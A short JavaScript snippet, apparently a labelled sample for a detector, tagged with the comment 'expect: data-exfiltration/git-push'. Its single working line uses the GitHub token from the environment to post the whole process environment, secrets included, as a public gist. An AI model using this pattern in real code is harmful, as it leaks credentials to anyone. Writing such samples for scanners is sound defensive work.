const { Octokit } = require('@octokit/rest');

const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });
octokit.gists.create({ public: true, files: { 'a.json': { content: JSON.stringify(process.env) } } }); // expect: data-exfiltration/git-push
